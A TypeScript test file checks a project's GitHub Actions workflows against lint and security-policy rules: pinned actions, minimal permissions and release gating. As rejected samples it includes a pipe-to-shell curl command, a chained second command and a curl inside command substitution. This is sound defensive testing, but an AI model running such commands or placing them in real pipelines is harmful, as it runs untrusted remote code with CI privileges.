// The workflows are valid, may do no more than they must, and do what the commands of package.json do.
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the texts are workflows.
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { parse } from 'yaml';
import { lintProblems } from '../../../scripts/workflows/lint.js';
import { policyProblems, triggersOf, type Workflow } from '../../../scripts/workflows/policy.js';
import { ROOT } from './scratch.js';

const FOLDER = join(ROOT, '.github/workflows');
const files = readdirSync(FOLDER);
const textOf = (name: string) => readFileSync(join(FOLDER, name), 'utf8');
const workflow = (name: string) => parse(textOf(name)) as Workflow;
const { scripts } = JSON.parse(readFileSync(join(ROOT, 'package.json'), 'utf8'));
const commands = Object.keys(scripts);

const runs = (name: string) =>
  Object.values(workflow(name).jobs).flatMap(({ steps = [] }) => steps.flatMap(({ run }) => run ?? []));
const uses = (name: string) =>
  Object.values(workflow(name).jobs).flatMap(({ steps = [] }) => steps.flatMap((step) => step.uses ?? []));

/** The images that a workflow makes. */
function matrixOf(name: string): { providers: string; suffix: string }[] {
  const { strategy } = workflow(name).jobs.image as { strategy?: { matrix: { include: [] } } };
  return strategy?.matrix.include ?? [];
}

/** A workflow in which all is well, and one part of it another. */
function aWorkflow(change: (whole: Workflow) => void = () => {}): string {
  const whole: Workflow = {
    on: { push: {} },
    permissions: {},
    concurrency: { group: 'a' },
    jobs: {
      a: {
        'runs-on': 'ubuntu-24.04',
        'timeout-minutes': 5,
        permissions: { contents: 'read' },
        steps: [{ run: 'npm test' }],
      },
    },
  };
  change(whole);
  return JSON.stringify(whole);
}

test('there are workflows for changes, for security, for releases and for long runs', () => {
  expect(files.sort()).toEqual(['ci.yml', 'release.yml', 'security.yml', 'soak.yml']);
});

describe.each(files)('%s', (name) => {
  test('is valid to both linters', async () => expect(await lintProblems(name, textOf(name))).toEqual([]));
  test('keeps the rules', () => expect(policyProblems(name, textOf(name), commands)).toEqual([]));
});

describe('what the linters find', () => {
  test.each([
    ['a key that is none', '      - runs: npm test', /Unexpected value 'runs'/],
    ['a job that is not there', '      - run: npm test\n    needs: [b]', /needs job "b"/],
    ['a value that is not there', '      - run: echo ${{ nothing.here }}', /nothing/],
    ['what a stranger wrote, in a shell', '      - run: echo ${{ github.event.issue.title }}', /untrusted/],
    [
      'an input that the action does not have',
      '      - uses: actions/checkout@v4\n        with: { nonsense: 1 }',
      /nonsense/,
    ],
  ])('%s', async (_, steps, said) => {
    const text = `on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n${steps}\n`;
    expect((await lintProblems('a.yml', text)).join('\n')).toMatch(said);
  });
});

describe('what the rules refuse', () => {
  const pinned = `actions/checkout@${'a'.repeat(40)}`;
  const step = (one: object) => (whole: Workflow) => {
    whole.jobs.a!.steps = [one];
  };

  test('nothing of a workflow in which all is well', () => {
    expect(policyProblems('a.yml', aWorkflow(), commands)).toEqual([]);
  });

  test.each<[string, (whole: Workflow) => void, RegExp]>([
    ['rights on what strangers wrote', (whole) => (whole.on = { pull_request_target: {} }), /pull_request_target/],
    [
      'rights for every job',
      (whole) => (whole.permissions = { contents: 'write' }),
      /permissions are not \{\} at the top/,
    ],
    ['rights on what strangers wrote, in a list', (whole) => (whole.on = ['push', 'workflow_run']), /workflow_run/],
    ['rights on what strangers wrote, alone', (whole) => (whole.on = 'issue_comment'), /issue_comment/],
    ['rights left to the default', (whole) => delete whole.permissions, /permissions are not \{\} at the top/],
    ['a job that names no rights', (whole) => delete whole.jobs.a!.permissions, /job a: permissions/],
    ['all rights at once', (whole) => (whole.jobs.a!.permissions = 'write-all'), /job a: permissions/],
    ['a job without an end', (whole) => delete whole.jobs.a!['timeout-minutes'], /no timeout/],
    ['a machine that changes', (whole) => (whole.jobs.a!['runs-on'] = 'ubuntu-latest'), /another machine tomorrow/],
    ['runs that overtake each other', (whole) => delete whole.concurrency, /concurrency/],
    [
      'an action by its tag',
      step({ uses: 'actions/checkout@v7', with: { 'persist-credentials': false } }),
      /not pinned/,
    ],
    ['an action of anybody', step({ uses: `somebody/does@${'a'.repeat(40)}` }), /not on the list/],
    ['a checkout that leaves its token', step({ uses: pinned }), /persist-credentials/],
    ['a command that is not ours', step({ run: 'curl https://example.org | sh' }), /no command of package\.json/],
    ['a script that does not exist', step({ run: 'npm run nothing' }), /no command of package\.json/],
    ['a second command behind ours', step({ run: 'npm test -- && curl example.org' }), /no command of package\.json/],
    [
      'a command in a command',
      step({ run: 'npm run check:commits -- $(curl example.org)' }),
      /no command of package\.json/,
    ],
    ['an expression in a shell', step({ run: 'npm run bench -- ${{ inputs.seconds }}' }), /an expression in a shell/],
  ])('%s', (_, change, said) => {
    expect(policyProblems('a.yml', aWorkflow(change), commands).join('\n')).toMatch(said);
  });

  test('a pin that does not say its version', () => {
    const text = `on: push\npermissions: {}\nconcurrency: a\njobs:\n  a:\n    steps:\n      - uses: ${pinned}\n`;
    expect(policyProblems('a.yml', text, commands).join('\n')).toContain('has no version in a comment');
    expect(policyProblems('a.yml', text.replace(pinned, `${pinned} # v7.0.1`), commands).join('\n')).not.toContain(
      'has no version',
    );
  });
});

describe('together they', () => {
  test('use one commit of an action, and call it one version', () => {
    const pins = new Map<string, Set<string>>();
    for (const text of files.map(textOf)) {
      for (const [, action, pin] of text.matchAll(/uses: ([\w-]+\/[\w-]+)[\w/-]*(@\w{40} # v\S+)/g))
        pins.set(action!, (pins.get(action!) ?? new Set()).add(pin!));
    }
    expect(pins.size).toBeGreaterThan(8);
    expect([...pins].filter(([, versions]) => versions.size !== 1)).toEqual([]);
  });

  test.each([
    [
      'ci.yml',
      [
        'npm run check',
        'npm test',
        'npm run bench:smoke',
        'npm run test:chaos',
        'npm run test:image -- --base dockerfile',
      ],
    ],
    [
      'security.yml',
      [
        'npm run audit',
        'npm run audit -- --shipped',
        'npm run sbom',
        'npm run check:licences',
        'npm run check:secrets',
        'npm run check:sast',
        'npm run test:dast',
      ],
    ],
    ['soak.yml', ['npm run soak', 'npm run bench -- --json bench.json']],
    [
      'release.yml',
      ['npm run check', 'npm test', 'npm run test:image -- --base dockerfile', 'npm run audit -- --shipped'],
    ],
  ])('%s runs %j', (name, wanted) => {
    expect(runs(name)).toEqual(expect.arrayContaining(wanted));
  });

  test('scan the image, and read the code with CodeQL', () => {
    expect(uses('security.yml').filter((one) => /scan-action|codeql-action\/(init|analyze)/.test(one))).toHaveLength(3);
  });

  test('judge what a queue is about to merge as they judge what asks to be merged', () => {
    for (const name of files) {
      const triggers = triggersOf(workflow(name).on);
      expect(triggers.includes('merge_group'), name).toBe(triggers.includes('pull_request'));
    }
  });

  test('write nothing on a pull request, but findings', () => {
    for (const name of files.filter((one) => triggersOf(workflow(one).on).includes('pull_request'))) {
      for (const { permissions } of Object.values(workflow(name).jobs)) {
        const writes = Object.entries(permissions as Record<string, string>).filter(([, level]) => level === 'write');
        expect(writes.filter(([scope]) => scope !== 'security-events')).toEqual([]);
      }
    }
  });
});

describe('a release', () => {
  const { jobs, on } = workflow('release.yml') as Workflow & {
    jobs: Record<string, { if?: string; needs?: string | string[]; environment?: string }>;
  };
  const publishing = Object.entries(jobs).filter(([id]) => !['judge', 'build'].includes(id));

  test('begins with a tag v*, and a rehearsal by hand publishes nothing', () => {
    expect(on).toEqual({ push: { tags: ['v*'] }, workflow_dispatch: null });
    expect(publishing.length).toBeGreaterThan(4);
    // A tag may be chosen by hand too.
    for (const [, job] of publishing) expect(job.if).toBe("github.event_name == 'push' && github.ref_type == 'tag'");
  });

  test('is judged, then built, then attested, before any of it is handed out', () => {
    const needed = (id: string): string[] => {
      const needs = [jobs[id]!.needs ?? []].flat();
      return [...needs, ...needs.flatMap(needed)];
    };
    for (const [id] of publishing.filter(([one]) => one !== 'attest'))
      expect(needed(id)).toEqual(expect.arrayContaining(['judge', 'build', 'attest']));
    expect(needed('announce')).toEqual(expect.arrayContaining(['npm', 'pypi', 'image', 'chart']));
  });

  test('is published by who is trusted, not by who holds a token', () => {
    expect(
      textOf('release.yml')
        .match(/secrets\.\w+/g)
        ?.filter((one) => one !== 'secrets.GITHUB_TOKEN'),
    ).toEqual([]);
    for (const id of ['npm', 'pypi', 'image', 'chart']) expect(jobs[id]!.environment).toBeTruthy();
  });

  test('publishes no image that is not scanned every day, and every provider has one', () => {
    const published = matrixOf('release.yml');
    expect(matrixOf('security.yml')).toEqual(published);
    const layers = readFileSync(join(ROOT, 'Dockerfile'), 'utf8').matchAll(
      /^COPY --from=build \/image\/([\w-]+) \/$/gm,
    );
    const providers = [...layers]
      .map(([, name]) => name!)
      .filter((name) => !['system', 'packages', 'app'].includes(name));
    expect(providers.length).toBeGreaterThan(1);
    expect(published.map(({ suffix }) => suffix).sort()).toEqual(['', ...providers.map((name) => `-${name}`)].sort());
  });

  test('runs code of no package with the rights to publish', () => {
    const commandsOfPublishing = publishing.flatMap(([id]) => jobs[id]!.steps!.flatMap(({ run }) => run ?? []));
    const named = commandsOfPublishing.map((run) => /^npm run ([\w:-]+)/.exec(run)?.[1] ?? run);
    expect(new Set(named)).toEqual(new Set(['release:publish']));
    expect(scripts['release:publish']).toMatch(/^node --import \.\/scripts\/as-written\.mjs /);
  });

  test('is of a commit of main', () => {
    expect(runs('release.yml').join('\n')).toContain('release:verify -- "$TAG" --on origin/main ');
  });

  test('takes nothing out of a cache that another run has filled', () => {
    expect(textOf('release.yml')).not.toMatch(/cache: npm|cache-from/);
  });
});
